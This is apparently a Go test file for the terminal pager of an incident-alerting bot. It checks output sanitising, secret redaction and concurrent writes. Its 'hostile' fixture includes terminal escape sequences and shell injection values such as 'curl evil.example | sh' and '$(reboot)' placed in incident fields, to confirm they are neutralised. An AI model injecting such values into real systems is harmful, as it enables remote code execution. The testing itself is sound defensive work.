package console_test

import (
	"bytes"
	"errors"
	"flag"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"unicode"

	"github.com/google/go-cmp/cmp"

	"tocsin/adapters/console"
	"tocsin/bot"
	"tocsin/bot/card"
	"tocsin/workflow"
)

var update = flag.Bool("update", false, "rewrite the golden files")

func pages() map[string]bot.Page {
	many := bot.Page{Key: "INC-1/9.1", Purpose: workflow.PurposeCatchAll, Person: "ben", Name: "Ben Okafor", Content: card.Content{Title: "13 incidents need you"}}
	for n := range 13 {
		many.Incidents = append(many.Incidents, bot.PagedIncident{ID: fmt.Sprintf("INC-%d", n+1), Severity: "SEV2", Title: "Something is down"})
	}
	return map[string]bot.Page{
		"answer": {
			Key: "INC-1/2.1", Purpose: workflow.PurposeEscalation, Person: "log", Name: "log",
			Incidents: []bot.PagedIncident{{ID: "INC-1", Severity: "SEV1", Title: "Checkout is down", AcknowledgeURL: "https://tocsin.example.com/a/secret-token"}},
			Content: card.Content{
				Title: "INC-1 · Checkout is down", Text: "No one has acknowledged yet.",
				Buttons: []card.Button{{Label: "Acknowledge", Command: "ack INC-1 --seen 2", URL: "https://tocsin.example.com/a/secret-token", Main: true}},
			},
		},
		"person": {
			Key: "INC-1/2.2", Purpose: workflow.PurposeJoin, Person: "ana", Name: "Ana Lima",
			Incidents: []bot.PagedIncident{{ID: "INC-1", Severity: "SEV1", Title: "Checkout is down"}},
			Content:   card.Content{Title: "INC-1 · Ben asks you to join"},
		},
		"know": {
			Key: "INC-1/7.1", Purpose: workflow.PurposeNotice, Person: "ana", Name: "Ana Lima",
			Incidents: []bot.PagedIncident{{ID: "INC-1", Severity: "SEV1", Title: "Checkout is down"}},
			Content:   card.Content{Title: "INC-1 · A new alert fires", Text: "DiskFull"},
		},
		"private": {
			Key: "INC-8/2.1", Purpose: workflow.PurposeEscalation, Person: "log",
			Incidents: []bot.PagedIncident{{ID: "INC-8", Severity: "SEV1", Title: "hush-hush", Private: true}},
			Content:   card.Content{Title: "hush-hush", Text: "hush-hush"},
		},
		"bundle": many,
		"bare":   {Key: "k", Purpose: workflow.PurposeEscalation, Content: card.Content{Title: "You are paged", Text: "by a test"}},
		"empty":  {},
		"hostile": {
			Key: "INC-2/1.1\n", Purpose: workflow.PurposeEscalation, Person: "eve\x1b[31m", Name: "Eve\r\n\x1b]0;title\x07",
			Incidents: []bot.PagedIncident{
				{ID: "INC-2", Severity: "SEV1\n", Title: "\x1b[2J\x1b[Hall is well\u202e\u0007\r\n  PAGE  INC-3"},
				{ID: "INC-2\"; curl evil.example | sh; \"", Title: "$(reboot)"},
				{ID: "INC-`id`", Title: "x"},
			},
			Content: card.Content{Title: "\u009b2J", Text: "a\nb\x00c"},
		},
	}
}

// page sends one page and returns what was logged and shown.
func page(t *testing.T, p bot.Page) (logged, shown string) {
	t.Helper()
	var log, terminal bytes.Buffer
	withoutTime := func(_ []string, a slog.Attr) slog.Attr {
		if a.Key == slog.TimeKey {
			return slog.Attr{}
		}
		return a
	}
	pager := console.New(console.Config{
		Log: slog.New(slog.NewTextHandler(&log, &slog.HandlerOptions{ReplaceAttr: withoutTime})), Terminal: &terminal,
	})
	if err := pager.Page(t.Context(), p); err != nil {
		t.Errorf("it failed: %v", err)
	}
	return log.String(), terminal.String()
}

func TestGolden(t *testing.T) {
	for name, p := range pages() {
		t.Run(name, func(t *testing.T) {
			logged, shown := page(t, p)
			got := logged + "\n" + shown
			path := filepath.Join("testdata", name+".txt")
			if *update {
				if err := os.WriteFile(path, []byte(got), 0o600); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), got); diff != "" {
				t.Errorf("%s (-want +got; -update rewrites it):\n%s", path, diff)
			}
		})
	}
}

func TestTerminalGetsTextOnly(t *testing.T) {
	for name, p := range pages() {
		logged, shown := page(t, p)
		for _, r := range strings.ReplaceAll(logged+shown, "\n", "") {
			if unicode.IsControl(r) || r == '\u202e' {
				t.Errorf("%s: the character %U is shown", name, r)
			}
		}
		for line := range strings.Lines(shown) {
			_, command, offered := strings.Cut(line, "tocsin run ")
			if offered && strings.ContainsAny(strings.Trim(command, "\"\n"), "\"$`;|&\\") {
				t.Errorf("%s: the command has a special meaning in a shell: %s", name, command)
			}
		}
	}
	if _, shown := page(t, pages()["hostile"]); strings.Count(shown, "\n") != 3 {
		t.Errorf("three incidents are not three lines:\n%s", shown)
	}
}

// TestP4NoSecretLeaks also covers P2: a private incident's texts are not shown.
func TestP4NoSecretLeaks(t *testing.T) {
	for name, p := range pages() {
		logged, shown := page(t, p)
		for _, secret := range []string{"secret-token", "hush-hush"} {
			if strings.Contains(logged+shown, secret) {
				t.Errorf("%s: %q is shown:\n%s%s", name, secret, logged, shown)
			}
		}
	}
}

type broken struct{}

func (broken) Write([]byte) (int, error) { return 0, errors.New("the terminal is gone") }

func TestItNeverFails(t *testing.T) {
	for _, cfg := range []console.Config{{}, {Terminal: broken{}}, {Log: slog.New(slog.NewTextHandler(broken{}, nil)), Terminal: io.Discard}} {
		for name, p := range pages() {
			if err := console.New(cfg).Page(t.Context(), p); err != nil {
				t.Errorf("%s: %v", name, err)
			}
		}
	}
}

func TestBlocksAreNotMixed(t *testing.T) {
	var terminal bytes.Buffer
	pager := console.New(console.Config{Terminal: &terminal})
	var all sync.WaitGroup
	for range 20 {
		all.Go(func() { _ = pager.Page(t.Context(), pages()["bundle"]) })
	}
	all.Wait()
	_, once := page(t, pages()["bundle"])
	if terminal.String() != strings.Repeat(once, 20) {
		t.Error("blocks are mixed")
	}
}
